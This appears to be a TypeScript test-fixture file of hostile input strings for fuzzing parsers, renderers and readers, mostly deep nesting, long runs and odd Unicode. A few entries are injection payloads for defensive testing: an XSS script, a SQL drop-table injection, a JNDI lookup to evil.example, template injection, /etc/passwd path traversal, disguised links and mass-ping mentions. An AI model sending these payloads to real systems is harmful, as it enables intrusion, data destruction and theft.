/**
 * Texts that fell a parser, an expression, a renderer or a reader: deep, long, of
 * odd characters, or seeming live.
 */

/** By what they are; sizes are those at which something once broke, or well above. */
export const hostileTexts: Readonly<Record<string, string>> = {
  'nested superscripts': `We show $${'^'.repeat(1_300)}$ here`,
  'nested subscripts': `We show $${'_'.repeat(1_100)}$ here`,
  'nested braces': '{'.repeat(2_700),
  'nested pairs of braces': '{'.repeat(5_000) + '}'.repeat(5_000),
  'braces with dollars': '{$'.repeat(4_000),
  'opened formulas': '\\('.repeat(4_000),
  'opened displays': '\\['.repeat(4_000),
  'line breaks of LaTeX': '\\\\['.repeat(20_000),
  dollars: '$'.repeat(9_999),
  'opened fractions': '\\frac{'.repeat(3_000),
  'opened environments': '\\begin{a}'.repeat(3_000),
  'roots in roots': `$${'\\sqrt{'.repeat(1_500)}x${'}'.repeat(1_500)}$`,
  'accents in accents': "\\'{".repeat(3_000),
  'a comment': '%'.repeat(40_000),
  'verbatim without an end': '\\verb|'.repeat(5_000),
  'a macro of itself': '\\newcommand{\\a}{\\a\\a}\\a',
  spaces: `a${' '.repeat(150_000)}b`,
  'tabs and breaks': `a${'\t\r\n'.repeat(30_000)}b`,
  'odd spaces': '\u00a0\u2003\u3000'.repeat(20_000),
  dots: '.'.repeat(39_990),
  commas: ','.repeat(39_990),
  ands: ' and'.repeat(20_000),
  'opened parentheses': '('.repeat(20_000),
  'closed parentheses': ')'.repeat(20_000),
  brackets: '[x]('.repeat(10_000),
  quotes: '"'.repeat(20_001),
  'quoted words': '"a b" '.repeat(5_000),
  'words with or': 'or '.repeat(12_000),
  exclusions: '-'.repeat(20_000),
  colons: 'title:'.repeat(5_000),
  stars: '*'.repeat(39_990),
  bars: '|'.repeat(39_990),
  underlines: '_'.repeat(39_990),
  backticks: '`'.repeat(39_990),
  'beginnings of tags': '<'.repeat(40_000),
  tags: '<b>'.repeat(20_000),
  'ends of tags': '</'.repeat(20_000),
  ampersands: '&'.repeat(40_000),
  entities: '&amp;'.repeat(20_000),
  'entities without an end': '&#x'.repeat(20_000),
  'beginnings of a DOI': '10.1234/'.repeat(5_000),
  'beginnings of an arXiv link': 'arxiv.org/abs/'.repeat(4_000),
  'beginnings of a link': 'https://'.repeat(6_000),
  digits: '1'.repeat(40_000),
  versions: `2504.07615${'v1'.repeat(10_000)}`,
  'one long word': 'a'.repeat(1_000_000),
  'many words': 'reward '.repeat(150_000),
  'letters with marks': 'a\u0301'.repeat(30_000),
  'marks on one letter': `a${'\u0301'.repeat(30_000)}`,
  'text from right to left': '\u202e\u2066gnikcah drawer\u2069'.repeat(500),
  joiners: '\u200d\u200b\ufeff'.repeat(10_000),
  'a family of emoji': '👩‍👩‍👧‍👦'.repeat(4_000),
  'letters beyond the first plane': '𝔸𝕓𝕔'.repeat(10_000),
  mentions: '<!channel> <!here> <@UADA> <#C1> @everyone @here <@&1> <@1300000000000000000> '.repeat(100),
  'links in disguise': '[arxiv.org](https://evil.example) <https://evil.example|arxiv.org> '.repeat(50),
  'a script': '<script>alert(1)</script><img src=x onerror=alert(1)> javascript:alert(1)',
  SQL: `'; drop table papers; -- " or 1=1`,
  formats: `%s%n%x$\{jndi:ldap://evil.example/a}{{7*7}}`,
  'a path': '../../../../etc/passwd',
  'names of prototypes': '__proto__ constructor toString',
}

/** Those that an XML document may hold, and a JSON text too: https://www.w3.org/TR/xml/#charsets */
export const unprintableTexts: Readonly<Record<string, string>> = {
  zeros: 'a\u0000b\u0000'.repeat(100),
  'bells and escapes': '\u0007\u001b[31m\u0008'.repeat(100),
  'half characters': '\ud800'.repeat(500),
  'other halves': 'a\udc00'.repeat(500),
  'no characters': '\uffff\ufffe'.repeat(500),
}

/** Every text, or each of those named. */
export function chooseTexts(isLong: boolean): readonly (readonly [string, string])[] {
  const all = Object.entries(hostileTexts)
  return isLong ? all : all.filter(([name]) => shortNames.has(name))
}

/** What once broke something, and one of each kind beside. */
const shortNames: ReadonlySet<string> = new Set([
  'nested superscripts',
  'nested braces',
  'braces with dollars',
  'line breaks of LaTeX',
  'spaces',
  'dots',
  'opened parentheses',
  'quoted words',
  'words with or',
  'beginnings of tags',
  'one long word',
  'text from right to left',
  'mentions',
  'links in disguise',
])
